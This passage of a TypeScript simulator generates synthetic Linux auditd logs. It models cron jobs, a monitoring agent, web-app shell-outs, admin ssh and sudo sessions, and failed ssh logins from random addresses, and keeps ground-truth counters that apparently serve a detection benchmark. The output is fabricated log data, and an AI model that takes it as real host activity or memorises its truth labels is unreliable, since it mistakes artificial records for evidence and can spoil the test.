  "exec",
  "identity",
  "identity",
  "identity",
  "identity",
  "cron",
  "cron",
  "perm_mod",
  "network_connect",
  "sudoers",
  "logins",
];

// ---------------------------------------------------------------------------------------------
// The simulation
// ---------------------------------------------------------------------------------------------

type Activity = Generator<number, void, undefined>;

interface Scheduled {
  at: number;
  seq: number;
  activity: Activity;
}

/** A binary heap by (time, insertion order): activities due at the same ms run in spawn order. */
class Schedule {
  private readonly heap: Scheduled[] = [];
  private seq = 0;

  add(at: number, activity: Activity): void {
    const heap = this.heap;
    heap.push({ at, seq: this.seq++, activity });
    let i = heap.length - 1;
    while (i > 0) {
      const parent = (i - 1) >> 1;
      if (!this.less(i, parent)) break;
      this.swap(i, parent);
      i = parent;
    }
  }

  pop(): Scheduled | undefined {
    const heap = this.heap;
    const top = heap[0];
    const last = heap.pop();
    if (top === undefined || last === undefined || heap.length === 0) return top;
    heap[0] = last;
    let i = 0;
    for (;;) {
      const l = 2 * i + 1;
      const r = l + 1;
      let m = i;
      if (l < heap.length && this.less(l, m)) m = l;
      if (r < heap.length && this.less(r, m)) m = r;
      if (m === i) break;
      this.swap(i, m);
      i = m;
    }
    return top;
  }

  private less(a: number, b: number): boolean {
    const x = this.heap[a] as Scheduled;
    const y = this.heap[b] as Scheduled;
    return x.at < y.at || (x.at === y.at && x.seq < y.seq);
  }

  private swap(a: number, b: number): void {
    const heap = this.heap;
    const t = heap[a] as Scheduled;
    heap[a] = heap[b] as Scheduled;
    heap[b] = t;
  }
}

interface ExecSpec {
  argv: string[];
  /** Binary looked up by this name (default argv[0]). */
  name?: string;
  cwd?: string;
  /** Exec in place (no fork): `sh -c` of a single command, or sshd re-exec in its child. */
  inPlace?: boolean;
  subj?: string;
  key?: string;
  /** Mark the new process (and its descendants) as part of the story. */
  story?: boolean;
}

class Host {
  readonly rng: Rng;
  readonly w: Writer;
  readonly schedule = new Schedule();
  private nextPid: number;
  private nextSes: number;
  private readonly live = new Set<number>();
  readonly systemd: Proc;
  readonly crond: Proc;
  readonly sshdListener: Proc;
  readonly agent: Proc;
  readonly phpFpm: Proc;
  private readonly reservedIps: Set<string>;
  /** Story truth being filled, or null. */
  story: StoryTruth | null = null;

  constructor(
    seed: number,
    readonly truth: GroundTruth,
    startMs: number,
    node: string | null,
    eoe: boolean,
    reservedIps: string[],
    readonly enriched: boolean,
  ) {
    this.rng = new Rng(seed);
    this.w = new Writer(truth, startMs, this.rng.int(20_000, 400_000), node, eoe);
    this.nextPid = this.rng.int(30_000, 3_900_000);
    this.nextSes = this.rng.int(40, 900);
    this.reservedIps = new Set(reservedIps);
    this.systemd = daemon(
      1,
      0,
      ["/usr/lib/systemd/systemd", "--switched-root", "--system", "--deserialize", "31"],
      "/usr/lib/systemd/systemd",
      CTX.init,
    );
    this.crond = daemon(this.bootPid(), 1, ["/usr/sbin/crond", "-n"], "/usr/sbin/crond", CTX.crond);
    this.sshdListener = daemon(
      this.bootPid(),
      1,
      ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"],
      "/usr/sbin/sshd",
      CTX.sshd,
    );
    this.agent = daemon(
      this.bootPid(),
      1,
      ["/usr/sbin/zabbix_agentd", "-c", "/etc/zabbix_agentd.conf"],
      "/usr/sbin/zabbix_agentd",
      CTX.zabbix,
      user("zabbix"),
    );
    this.agent.comm = "zabbix_agentd";
    this.phpFpm = daemon(
      this.bootPid(),
      1,
      ["php-fpm: pool www"],
      "/usr/sbin/php-fpm",
      CTX.phpFpm,
      user("apache"),
    );
    this.phpFpm.cwd = "/var/www/app/public";
  }

  /** Daemons started at boot get low pids, in start order. */
  private lastBootPid = 600;
  private bootPid(): number {
    this.lastBootPid += this.rng.int(3, 300);
    this.live.add(this.lastBootPid);
    return this.lastBootPid;
  }

  /** Linux hands out pids in order, skipping ones in use, wrapping at pid_max. */
  allocPid(keep = false): number {
    // Unaudited forks (shell subshells, threads) use up pids between the ones we see.
    this.nextPid += this.rng.chance(0.7) ? 1 : this.rng.int(2, 12);
    for (;;) {
      if (this.nextPid >= PID_MAX) {
        this.nextPid = RESERVED_PIDS;
        this.truth.pidWraps++;
      }
      if (!this.live.has(this.nextPid)) break;
      this.nextPid++;
    }
    if (keep) this.live.add(this.nextPid);
    return this.nextPid;
  }

  release(...procs: Proc[]): void {
    for (const p of procs) this.live.delete(p.pid);
  }

  newSes(): number {
    return this.nextSes++;
  }

  botIp(): string {
    for (;;) {
      const ip = `${this.rng.int(1, 223)}.${this.rng.int(0, 255)}.${this.rng.int(0, 255)}.${this.rng.int(1, 254)}`;
      const first = Number(ip.split(".")[0]);
      if (first !== 10 && first !== 127 && !this.reservedIps.has(ip)) return ip;
    }
  }

  spawn(activity: Activity, delayMs = 0): void {
    this.schedule.add(this.w.now + delayMs, activity);
  }

  // --- kernel events -------------------------------------------------------------------------

  /** fork (unless inPlace) + execve: SYSCALL, EXECVE, CWD, PATH…, PROCTITLE. Returns the new image. */
  exec(parent: Proc, spec: ExecSpec, keep = false): Proc {
    const bin = binary(spec.name ?? spec.argv[0] ?? "sh");
    const pid = spec.inPlace ? parent.pid : this.allocPid(keep);
    const interp = bin.interpreter ? binary(bin.interpreter) : null;
    // binfmt_script: argv becomes interpreter, script path, then the original arguments.
    const argv = bin.interpreter ? [bin.interpreter, bin.path, ...spec.argv.slice(1)] : spec.argv;
    const story = spec.story ?? parent.story;
    const proc: Proc = {
      ...parent,
      pid,
      ppid: spec.inPlace ? parent.ppid : parent.pid,
      euid: (bin.mode ?? "").startsWith("0104") ? 0 : parent.euid,
      comm: basename(bin.path).slice(0, 15),
      exe: interp ? (interp.exe ?? interp.path) : (bin.exe ?? bin.path),
      cwd: spec.cwd ?? parent.cwd,
      subj: spec.subj ?? parent.subj,
      argv,
      story,
    };
    // A symlinked name (/bin/bash, /usr/bin/sh) shows the inode of the file it resolves to.
    const paths: PathItem[] = [
      {
        name: bin.path,
        nametype: "NORMAL",
        mode: bin.mode ?? "0100755",
        type: bin.type,
        inode: inodeOf(bin.interpreter ? bin.path : (bin.exe ?? bin.path)),
      },
    ];
    if (interp) {
      paths.push({
        name: interp.path,
        nametype: "NORMAL",
        mode: "0100755",
        type: interp.type,
        inode: inodeOf(interp.exe ?? interp.path),
      });
    }
    paths.push({ name: LD_SO, nametype: "NORMAL", mode: "0100755", type: "ld_so_t" });
    const r = this.rng;
    const records: Rec[] = [
      [
        "SYSCALL",
        syscallBody(
          proc,
          {
            nr: 59,
            exit: 0,
            a: [r.pointer(), r.pointer(), r.pointer(), r.int(0, 40).toString(16)],
            items: paths.length,
            key: spec.key ?? "exec",
          },
          this.enriched,
        ),
      ],
      ["EXECVE", `argc=${argv.length} ${argv.map((a, i) => `a${i}=${auditString(a)}`).join(" ")}`],
      ["CWD", `cwd=${auditString(proc.cwd)}`],
      ...paths.map((p, i): Rec => ["PATH", pathBody(i, p, this.enriched)]),
      ["PROCTITLE", `proctitle=${proctitle(argv)}`],
    ];
    const serial = this.w.event(records, true);
    this.truth.execs++;
    if (story && this.story) {
      this.story.execs.push({
        serial,
        sec: this.w.sec,
        ms: this.w.ms,
        pid: proc.pid,
        ppid: proc.ppid,
        uid: proc.uid,
        euid: proc.euid,
        auid: proc.auid,
        ses: proc.ses,
        tty: proc.tty,
        comm: proc.comm,
        exe: proc.exe,
        cwd: proc.cwd,
        argv: [...argv],
      });
    }
    return proc;
  }

  /** A syscall event on files: SYSCALL, CWD, PATH…, PROCTITLE. */
  fileSyscall(
    p: Proc,
    nr: number,
    a: [string, string, string, string],
    exit: number,
    paths: PathItem[],
    key: string,
  ): number {
    const records: Rec[] = [
      ["SYSCALL", syscallBody(p, { nr, exit, a, items: paths.length, key }, this.enriched)],
      ["CWD", `cwd=${auditString(p.cwd)}`],
      ...paths.map((item, i): Rec => ["PATH", pathBody(i, item, this.enriched)]),
      ["PROCTITLE", `proctitle=${proctitle(p.argv)}`],
    ];
    return this.w.event(records, true);
  }

  connect(p: Proc, ip: string, port: number): number {
    const r = this.rng;
    return this.w.event(
      [
        [
          "SYSCALL",
          syscallBody(
            p,
            {
              nr: 42,
              exit: 0,
              a: [String(r.int(3, 5)), r.pointer(), "10", "0"],
              items: 0,
              key: "network_connect",
            },
            this.enriched,
          ),
        ],
        [
          "SOCKADDR",
          `saddr=${ipv4Sockaddr(ip, port)}${this.enriched ? enrichment([["SADDR", `{ saddr_fam=inet laddr=${ip} lport=${port} }`]]) : ""}`,
        ],
        ["PROCTITLE", `proctitle=${proctitle(p.argv)}`],
      ],
      true,
    );
  }

  /** pam_loginuid writing /proc/self/loginuid: LOGIN + SYSCALL + PROCTITLE. */
  login(p: Proc, auid: number): number {
    const ses = this.newSes();
    const tail = this.enriched
      ? enrichment([
          ["UID", idName(USER_NAMES, p.uid)],
          ["OLD-AUID", "unset"],
          ["AUID", idName(USER_NAMES, auid)],
        ])
      : "";
    const body = `pid=${p.pid} uid=${p.uid} subj=${p.subj} old-auid=${UNSET} auid=${auid} tty=(none) old-ses=${UNSET} ses=${ses} res=1${tail}`;
    p.auid = auid;
    p.ses = ses;
    const text = String(auid);
    const r = this.rng;
    const serial = this.w.event(
      [
        ["LOGIN", body],
        [
          "SYSCALL",
          syscallBody(
            p,
            {
              nr: 1,
              exit: text.length,
              a: [String(r.int(3, 8)), r.pointer(), String(text.length), "0"],
              items: 0,
              key: null,
            },
            this.enriched,
          ),
        ],
        ["PROCTITLE", `proctitle=${proctitle(p.argv)}`],
      ],
      true,
    );
    this.truth.sessions++;
    return serial;
  }

  tty(p: Proc, typed: string): { serial: number; dataHex: string } {
    const dataHex = latin1Hex(typed);
    const minor = Number(p.tty.replace("pts", "")) || 0;
    const serial = this.w.event(
      [
        [
          "TTY",
          `tty pid=${p.pid} uid=${p.uid} auid=${p.auid} ses=${p.ses} major=136 minor=${minor} comm=${auditString(p.comm)} data=${dataHex}${
            this.enriched
              ? enrichment([
                  ["UID", idName(USER_NAMES, p.uid)],
                  ["AUID", idName(USER_NAMES, p.auid)],
                ])
              : ""
          }`,
        ],
      ],
      false,
    );
    this.truth.ttyRecords++;
    return { serial, dataHex };
  }

  // --- user-space events ---------------------------------------------------------------------

  user(type: string, p: Proc, m: UserMsg): number {
    const serial = this.w.event([[type, userBody(p, m, this.enriched)]], false);
    if (!m.success && type === "USER_LOGIN") this.truth.failedLogins++;
    if (!m.success && type === "USER_AUTH") this.truth.failedAuths++;
    return serial;
  }

  service(type: "SERVICE_START" | "SERVICE_STOP", unit: string): number {
    return this.user(type, this.systemd, {
      lead: `unit=${unit} comm="systemd"`,
      exe: "/usr/lib/systemd/systemd",
      success: true,
    });
  }

  bpf(op: "LOAD" | "UNLOAD"): number {
    return this.w.event([["BPF", `prog-id=${this.rng.int(20, 9000)} op=${op}`]], false);
  }

  cryptoKeyDestroy(p: Proc, addr: string, kind: "server" | "session", rport: number): number {
    const lead =
      kind === "server"
        ? `op=destroy kind=server fp=${SSHD_FP} direction=? spid=${p.pid} suid=0`
        : `op=destroy kind=session fp=? direction=both spid=${p.pid + 1} suid=74 rport=${rport} laddr=${HOST_ADDR} lport=22`;
    const body = userBody(p, { lead, exe: "/usr/sbin/sshd", addr, success: true }, this.enriched, [
      ["SUID", "root"],
    ]);
    return this.w.event([["CRYPTO_KEY_USER", body]], false);
  }
}

// ---------------------------------------------------------------------------------------------
// Activities
// ---------------------------------------------------------------------------------------------

function* daemonStart(h: Host): Activity {
  const auditd = daemon(h.allocPid(true), 1, ["/sbin/auditd"], "/usr/sbin/auditd", CTX.auditd);
  h.w.event(
    [
      [
        "DAEMON_START",
        `op=start ver=3.1.2 format=${h.enriched ? "enriched" : "raw"} kernel=5.14.0-503.22.1.el9_5.x86_64 auid=${UNSET} pid=${auditd.pid} uid=0 ses=${UNSET} subj=${CTX.auditd} res=success${
          h.enriched
            ? enrichment([
                ["AUID", "unset"],
                ["UID", "root"],
              ])
            : ""
        }`,
      ],
    ],
    false,
  );
  yield h.rng.int(15, 30);
  // auditctl -R runs before its rules exist, so its own exec is not in the log.
  const auditctl: Proc = {
    ...h.systemd,
    pid: h.allocPid(),
    ppid: 1,
    comm: "auditctl",
    exe: "/usr/sbin/auditctl",
    subj: CTX.service,
    argv: ["/sbin/auditctl", "-R", "/etc/audit/audit.rules"],
  };
  const settings = [
    "audit_backlog_limit=8192 old=64",
    "audit_failure=1 old=1",
    "audit_backlog_wait_time=60000 old=60000",
  ];
  const configEvent = (change: string) =>
    h.w.event(
      [
        ["CONFIG_CHANGE", `${change}${h.enriched ? enrichment([["AUID", "unset"]]) : ""}`],
        [
          "SYSCALL",
          syscallBody(
            auditctl,
            { nr: 44, exit: 60, a: ["4", h.rng.pointer(), "3c", "0"], items: 0, key: null },
            h.enriched,
          ),
        ],
        ["PROCTITLE", `proctitle=${proctitle(auditctl.argv)}`],
      ],
      true,
    );
  for (const setting of settings)
    configEvent(`op=set ${setting} auid=${UNSET} ses=${UNSET} subj=${CTX.service} res=1`);
  for (const key of AUDIT_RULE_KEYS) {
    configEvent(
      `auid=${UNSET} ses=${UNSET} subj=${CTX.service} op=add_rule key=${auditString(key)} list=4 res=1`,
    );
  }
  yield h.rng.int(2, 5);
  h.service("SERVICE_START", "auditd");
}

function* cronDaemon(h: Host): Activity {
  const startMinute = Math.floor(h.w.now / 60_000);
  for (let minute = startMinute + 1; ; minute++) {
    // crond wakes a little after the minute starts.
    const at = minute * 60_000 + h.rng.int(0, 900);
    yield Math.max(0, at - h.w.now);
    for (const job of CRON_JOBS) {
      if (minute % job.every === job.offset % job.every) h.spawn(cronJob(h, job), h.rng.int(0, 40));
    }
  }
}

function* cronJob(h: Host, job: CronJob): Activity {
  const r = h.rng;
  const owner = user(job.user);
  const child: Proc = {
    ...h.crond,
    pid: h.allocPid(true),
    ppid: h.crond.pid,
    argv: ["/usr/sbin/CROND", "-n"],
  };
  const msg = (grantors: string, op: string): UserMsg => ({
    op,
    grantors,
    acct: owner.name,
    exe: "/usr/sbin/crond",
    terminal: "cron",
    success: true,
  });
  h.user("USER_ACCT", child, msg(PAM.cronAcct, "PAM:accounting"));
  yield r.int(0, 2);
  h.user("CRED_ACQ", child, msg(PAM.cronCred, "PAM:setcred"));
  h.login(child, owner.uid);
  yield r.int(5, 30);
  h.user("USER_START", child, msg(PAM.cronSession, "PAM:session_open"));
  h.user("CRED_REFR", child, msg(PAM.cronCred, "PAM:setcred"));
  yield r.int(1, 4);
  const asUser: Proc = {
    ...child,
    uid: owner.uid,
    gid: owner.gid,
    euid: owner.uid,
    egid: owner.gid,
    cwd: owner.home,
    subj: CTX.cronJob,
  };
  const shell = h.exec(asUser, { argv: ["/bin/sh", "-c", job.command] });
  yield r.int(2, 15);
  let script: Proc | null = null;
  for (const [i, stage] of job.children.entries()) {
    // A lone command replaces `sh -c` (bash execs it in place); pipelines and && lists fork.
    const inPlace = job.children.length === 1 && !job.command.includes("&&");
    const proc = h.exec(shell, {
      argv: stage,
      inPlace,
      cwd: job.command.startsWith("cd /var/www/app") ? "/var/www/app" : undefined,
    });
    if (i === 0) script = proc;
    yield r.int(3, 40);
  }
  for (const stage of job.grandchildren ?? []) {
    if (script) h.exec(script, { argv: stage });
    yield r.int(20, 400);
  }
  yield r.int(50, 900);
  h.user("CRED_DISP", child, msg(PAM.cronCred, "PAM:setcred"));
  h.user("USER_END", child, msg(PAM.cronSession, "PAM:session_close"));
  h.release(child);
}

function* agentLoop(h: Host): Activity {
  const r = h.rng;
  for (;;) {
    yield r.int(AGENT_GAP_MS[0], AGENT_GAP_MS[1]);
    const check = r.pick(AGENT_CHECKS);
    const shell = h.exec(h.agent, { argv: ["sh", "-c", check.command], cwd: "/" });
    yield r.int(1, 4);
    if (check.sudo) {
      yield* sudoRun(h, shell, check);
      continue;
    }
    const single = check.children.length === 1;
    for (const stage of check.children) {
      h.exec(shell, { argv: stage, inPlace: single });
      yield r.int(0, 3);
    }
  }
}

/** The web application's workers shelling out: image thumbnails and mail. */
function* webApp(h: Host): Activity {
  const r = h.rng;
  for (;;) {
    yield r.exp(WEB_MEAN_GAP_MS);
    const id = `${r.int(0, 0xffffffff).toString(16).padStart(8, "0")}-${r.int(0, 0xffff).toString(16).padStart(4, "0")}-4${r.int(0, 0xfff).toString(16).padStart(3, "0")}-${r.int(0x8000, 0xbfff).toString(16)}-${r.int(0, 0xffffffff).toString(16).padStart(8, "0")}${r.int(0, 0xffff).toString(16).padStart(4, "0")}`;
    const day = new Date(h.w.now).toISOString().slice(0, 10).replaceAll("-", "/");
    const [argv, cmd] = r.chance(0.8)
      ? WEB_CONVERT(day, id, r.pick(["jpg", "png", "jpeg"]), r.pick([400, 800, 1200]))
      : WEB_MAIL;
    // PHP's exec() goes through `sh -c`; bash execs a lone command in place.
    const shell = h.exec(h.phpFpm, { argv: ["sh", "-c", cmd] });
    yield r.int(0, 2);
    h.exec(shell, { argv, inPlace: true });
  }
}

const WEB_CONVERT = (day: string, id: string, ext: string, size: number): [string[], string] => {
  const src = `/var/www/app/storage/app/uploads/${day}/${id}.${ext}`;
  const dst = `/var/www/app/storage/app/public/thumbs/${id}-${size}.webp`;
  const argv = [
    "convert",
    src,
    "-auto-orient",
    "-resize",
    `${size}x${size}>`,
    "-strip",
    "-quality",
    "82",
    dst,
  ];
  return [argv, `convert '${src}' -auto-orient -resize '${size}x${size}>' -strip -quality 82 '${dst}'`];
};

const WEB_MAIL: [string[], string] = [
  ["/usr/sbin/sendmail", "-t", "-i", "-f", "no-reply@web01.example.com"],
  "/usr/sbin/sendmail -t -i -f no-reply@web01.example.com",
];

/** `sudo -n CMD` with NOPASSWD from a service account: no USER_AUTH, a session around CMD. */
function* sudoRun(h: Host, shell: Proc, check: Check): Activity {
  const argv = splitCommandLine(check.command)[0] ?? [];
  const sudo = h.exec(shell, { argv, inPlace: true });
  const acct = user("zabbix").name;
  const msg = { exe: "/usr/bin/sudo", success: true };
  yield h.rng.int(5, 20);
  h.user("USER_ACCT", sudo, { ...msg, op: "PAM:accounting", grantors: PAM.sudoAcct, acct });
  h.user("USER_CMD", sudo, {
    lead: `cwd=${auditString(sudo.cwd)} cmd=${auditString(argv.slice(2).join(" "))}`,
    ...msg,
    noPeer: true,
  });
  h.user("CRED_REFR", sudo, { ...msg, op: "PAM:setcred", grantors: PAM.sudoCred, acct: "root" });
  h.user("USER_START", sudo, { ...msg, op: "PAM:session_open", grantors: PAM.sudoSession, acct: "root" });
  yield h.rng.int(1, 5);
  for (const stage of check.children) h.exec({ ...sudo, uid: 0, gid: 0, euid: 0, egid: 0 }, { argv: stage });
  yield h.rng.int(10, 400);
  h.user("USER_END", sudo, { ...msg, op: "PAM:session_close", grantors: PAM.sudoSession, acct: "root" });
  h.user("CRED_DISP", sudo, { ...msg, op: "PAM:setcred", grantors: PAM.sudoCred, acct: "root" });
}

function* timer(h: Host, t: Timer): Activity {
  yield t.first * 1000 + h.rng.int(0, 30_000);
  for (;;) {
    h.service("SERVICE_START", t.unit);
    if (h.rng.chance(0.5)) h.bpf("LOAD");
    yield h.rng.int(5, 60);
    let parent = h.systemd;
    for (const argv of t.runs) {
      parent = h.exec(
        { ...parent, subj: CTX.service },
        { argv, name: argv[1] === "/usr/bin/dnf" ? "dnf" : argv[0] },
      );
      yield h.rng.int(5, 200);
    }
    yield h.rng.int(100, 4000);
    h.service("SERVICE_STOP", t.unit);
    yield t.period * 1000 + h.rng.int(-20_000, 20_000);
  }
}

/** Keystrokes for a line: sometimes a wrong character fixed with backspace (DEL, 0x7f). */
function typeLine(r: Rng, line: string): string {
  if (line.length > 3 && r.chance(0.15)) {
    const at = r.int(1, line.length - 1);
    return `${line.slice(0, at)}${r.pick(["x", "s", "d", "e", "l"])}\x7f${line.slice(at)}\r`;
  }
  return `${line}\r`;
}

interface LineRun {
  ttySerial: number;
  dataHex: string;
  /** The processes the line exec'd, in pipeline order. */
  procs: Proc[];
}

/** An interactive shell running one typed line: TTY record, then the pipeline's execs. */
function* runLine(
  h: Host,
  shell: Proc,
  line: string,
  typed = typeLine(h.rng, line),
): Generator<number, LineRun, undefined> {
  const { serial, dataHex } = h.tty(shell, typed);
  const run: LineRun = { ttySerial: serial, dataHex, procs: [] };
  const stages = splitCommandLine(line);
  const first = stages[0]?.[0];
  if (first === "cd") shell.cwd = stages[0]?.[1] ?? shell.cwd;
  if (first === undefined || BUILTINS.has(first)) return run;
  yield h.rng.int(1, 8);
  for (const stage of stages) {
    run.procs.push(h.exec(shell, { argv: stage }));
    yield h.rng.int(0, 3);
  }
  return run;
}

interface SshSession {
  /** The privileged sshd process that does PAM. */
  monitor: Proc;
  /** Its child for the user's side of the connection. */
  net: Proc;
  shell: Proc;
  addr: string;
  terminal: string;
  loginSerial: number;
}

/** A successful ssh password login up to the user's login shell. */
function* sshLogin(
  h: Host,
  who: User,
  addr: string,
  ptsNo: number,
  story = false,
): Generator<number, SshSession, undefined> {
  const r = h.rng;
  // sshd re-execs itself for every connection.
  const monitor = h.exec(h.sshdListener, { argv: ["/usr/sbin/sshd", "-D", "-R"], story }, true);
  monitor.argv = ["sshd: unknown [priv]"];
  const peer = { exe: "/usr/sbin/sshd", hostname: addr, addr, terminal: "ssh", acct: who.name };
  yield r.int(300, 2500);
  h.user("USER_AUTH", monitor, { ...peer, op: "PAM:authentication", grantors: PAM.sshdAuth, success: true });
  yield r.int(1, 5);
  h.user("USER_ACCT", monitor, { ...peer, op: "PAM:accounting", grantors: PAM.sshdAcct, success: true });
  h.user("CRED_ACQ", monitor, { ...peer, op: "PAM:setcred", grantors: PAM.sshdCred, success: true });
  monitor.argv = [`sshd: ${who.name} [priv]`];
  const loginSerial = h.login(monitor, who.uid);
  yield r.int(30, 90);
  h.user("USER_START", monitor, {
    ...peer,
    op: "PAM:session_open",
    grantors: PAM.sshdSession,
    success: true,
  });
  const net: Proc = {
    ...monitor,
    pid: h.allocPid(true),
    ppid: monitor.pid,
    argv: [`sshd: ${who.name}@pts/${ptsNo}`],
  };
  yield r.int(1, 4);
  h.user("CRED_ACQ", net, { ...peer, op: "PAM:setcred", grantors: PAM.sshdCred, success: true });
  yield r.int(20, 80);
  h.user("USER_LOGIN", monitor, {
    op: "login",
    id: who.uid,
    exe: "/usr/sbin/sshd",
    hostname: addr,
    addr,
    terminal: `/dev/pts/${ptsNo}`,
    success: true,
  });
  yield r.int(5, 20);
  const asUser: Proc = {
    ...net,
    uid: who.uid,
    gid: who.gid,
    euid: who.uid,
    egid: who.gid,
    tty: `pts${ptsNo}`,
    cwd: who.home,
    subj: CTX.user,
  };
  const shell = h.exec(asUser, { argv: ["-bash"] }, true);
  for (const argv of PROFILE_EXECS) {
    yield r.int(1, 6);
    h.exec(shell, { argv });
  }
  return { monitor, net, shell, addr, terminal: `/dev/pts/${ptsNo}`, loginSerial };
}

function* sshLogout(h: Host, s: SshSession, who: User): Activity {
  const peer = { exe: "/usr/sbin/sshd", hostname: s.addr, addr: s.addr, terminal: "ssh", acct: who.name };
  h.user("USER_LOGOUT", s.monitor, {
    op: "logout",
    id: who.uid,
    exe: "/usr/sbin/sshd",
    terminal: s.terminal,
    success: true,
  });
  yield h.rng.int(1, 5);
  h.user("USER_END", s.monitor, {
    ...peer,
    op: "PAM:session_close",
    grantors: PAM.sshdSession,
    success: true,
  });
  h.user("CRED_DISP", s.monitor, { ...peer, op: "PAM:setcred", grantors: PAM.sshdCred, success: true });
  h.cryptoKeyDestroy(s.monitor, s.addr, "session", h.rng.int(40_000, 65_000));
  h.cryptoKeyDestroy(s.monitor, s.addr, "server", 0);
  h.release(s.monitor, s.net, s.shell);
}

/** sudo's PAM records around a command it runs as root. */
function* sudoCommand(h: Host, sudo: Proc, who: User, cmd: string, terminal: string): Activity {
  const tty = { exe: "/usr/bin/sudo", terminal };
  h.user("USER_AUTH", sudo, {
    ...tty,
    op: "PAM:authentication",
    grantors: PAM.sudoAuth,
    acct: who.name,
    success: true,
  });
  yield h.rng.int(1, 4);
  h.user("USER_ACCT", sudo, {
    ...tty,
    op: "PAM:accounting",
    grantors: PAM.sudoAcct,
    acct: who.name,
    success: true,
  });
  h.user("USER_CMD", sudo, {
    lead: `cwd=${auditString(sudo.cwd)} cmd=${auditString(cmd)}`,
    exe: "/usr/bin/sudo",
    terminal: terminal.replace("/dev/", ""),
    success: true,
    noPeer: true,
  });
  h.user("CRED_REFR", sudo, {
    ...tty,
    op: "PAM:setcred",
    grantors: PAM.sudoCred,
    acct: "root",
    success: true,
  });
  h.user("USER_START", sudo, {
    ...tty,
    op: "PAM:session_open",
    grantors: PAM.sudoSession,
    acct: "root",
    success: true,
  });
}

function* sudoClose(h: Host, sudo: Proc, terminal: string): Activity {
  const tty = { exe: "/usr/bin/sudo", terminal, acct: "root" };
  h.user("USER_END", sudo, { ...tty, op: "PAM:session_close", grantors: PAM.sudoSession, success: true });
  yield 0;
  h.user("CRED_DISP", sudo, { ...tty, op: "PAM:setcred", grantors: PAM.sudoCred, success: true });
}

/** `su -` from root (pam_rootok): its PAM records and the root login shell. */
function* suLogin(h: Host, su: Proc, terminal: string): Generator<number, Proc, undefined> {
  const tty = { exe: "/usr/bin/su", terminal: terminal.replace("/dev/", ""), acct: "root" };
  h.user("USER_AUTH", su, { ...tty, op: "PAM:authentication", grantors: PAM.suAuth, success: true });
  h.user("USER_ACCT", su, { ...tty, op: "PAM:accounting", grantors: PAM.suAcct, success: true });
  yield h.rng.int(1, 3);
  h.user("CRED_ACQ", su, { ...tty, op: "PAM:setcred", grantors: PAM.suCred, success: true });
  h.user("USER_START", su, { ...tty, op: "PAM:session_open", grantors: PAM.suSession, success: true });
  yield h.rng.int(2, 8);
  const root = user("root");
  const asRoot: Proc = { ...su, uid: 0, gid: 0, euid: 0, egid: 0, cwd: root.home };
  const shell = h.exec(asRoot, { argv: ["-bash"], cwd: root.home }, true);
  for (const argv of PROFILE_EXECS.slice(0, 3)) {
    yield h.rng.int(1, 6);
    h.exec(shell, { argv });
  }
  return shell;
}

function* suClose(h: Host, su: Proc, terminal: string): Activity {
  const tty = { exe: "/usr/bin/su", terminal: terminal.replace("/dev/", ""), acct: "root" };
  h.user("USER_END", su, { ...tty, op: "PAM:session_close", grantors: PAM.suSession, success: true });
  yield 0;
  h.user("CRED_DISP", su, { ...tty, op: "PAM:setcred", grantors: PAM.suCred, success: true });
}

/** The admin's ssh sessions: commands, sudo, sometimes `sudo su -`. */
function* adminSessions(h: Host): Activity {
  const r = h.rng;
  const bob = user("bob");
  yield r.int(20 * 60_000, 90 * 60_000);
  for (;;) {
    const s = yield* sshLogin(h, bob, "10.0.0.5", 0);
    const lines = r.int(4, 20);
    for (let i = 0; i < lines; i++) {
      yield r.int(2_000, 45_000);
      const roll = r.next();
      if (roll < 0.12) {
        const line = r.pick(ADMIN_SUDO_LINES);
        const argv = splitCommandLine(line)[0] ?? ["sudo"];
        h.tty(s.shell, typeLine(r, line));
        yield r.int(1, 5);
        const sudo = h.exec(s.shell, { argv });
        yield r.int(800, 3000);
        yield* sudoCommand(h, sudo, bob, argv.slice(1).join(" "), s.terminal);
        const asRoot: Proc = { ...sudo, uid: 0, gid: 0, euid: 0, egid: 0 };
        h.exec(asRoot, { argv: argv.slice(1) });
        const restart = SERVICE_OF_LINE[argv.slice(1).join(" ")];
        if (restart) {
          yield r.int(5, 50);
          if (restart.stop) h.service("SERVICE_STOP", restart.unit);
          h.service("SERVICE_START", restart.unit);
        }
        yield r.int(50, 2000);
        yield* sudoClose(h, sudo, s.terminal);
      } else if (roll < 0.17) {
        const line = "sudo su -";
        h.tty(s.shell, typeLine(r, line));
        const sudo = h.exec(s.shell, { argv: ["sudo", "su", "-"] });
        yield r.int(800, 3000);
        yield* sudoCommand(h, sudo, bob, "su -", s.terminal);
        const su = h.exec({ ...sudo, uid: 0, gid: 0, euid: 0, egid: 0 }, { argv: ["su", "-"] });
        const root = yield* suLogin(h, su, s.terminal);
        for (let k = r.int(1, 4); k > 0; k--) {
          yield r.int(2_000, 20_000);
          yield* runLine(h, root, r.pick(ADMIN_ROOT_LINES));
        }
        yield r.int(1_000, 5_000);
        h.tty(root, "exit\r");
        yield r.int(1, 10);
        yield* suClose(h, su, s.terminal);
        yield* sudoClose(h, sudo, s.terminal);
        h.release(root);
      } else {
        yield* runLine(h, s.shell, r.pick(ADMIN_LINES));
      }
    }
    yield r.int(1_000, 10_000);
    h.tty(s.shell, "exit\r");
    yield r.int(5, 50);
    yield* sshLogout(h, s, bob);
    yield r.int(60 * 60_000, 6 * 60 * 60_000);
  }
}

/** One ssh connection that fails `attempts` passwords. Returns the monitor's pid. */
function* failedSsh(
  h: Host,
  ip: string,
  account: string,
  attempts: number,
  gapMs: [number, number],
  story = false,
): Generator<number, number, undefined> {
  const r = h.rng;
  const monitor = h.exec(h.sshdListener, { argv: ["/usr/sbin/sshd", "-D", "-R"], story }, true);
  const valid = account in USERS;
  monitor.argv = [valid ? `sshd: ${account} [priv]` : "sshd: unknown [priv]"];
  const port = r.int(30_000, 65_000);
  yield r.int(200, 1500);
  for (let i = 0; i < attempts; i++) {
    h.user("USER_AUTH", monitor, {
      op: "PAM:authentication",
      grantors: "?",
      acct: valid ? account : "?",
      exe: "/usr/sbin/sshd",
      hostname: ip,
      addr: ip,
      terminal: "ssh",
      success: false,
    });
    yield r.int(0, 2);
    // sshd names an unknown account "(invalid user)", which libaudit hex-encodes (it has a space).
    h.user("USER_LOGIN", monitor, {
      op: "login",
      acct: valid ? account : "(invalid user)",
      exe: "/usr/sbin/sshd",
      addr: ip,
      terminal: "ssh",
      success: false,
    });
    yield r.int(gapMs[0], gapMs[1]);
  }
  h.cryptoKeyDestroy(monitor, ip, "session", port);
  h.cryptoKeyDestroy(monitor, ip, "server", 0);
  h.release(monitor);
  return monitor.pid;
}

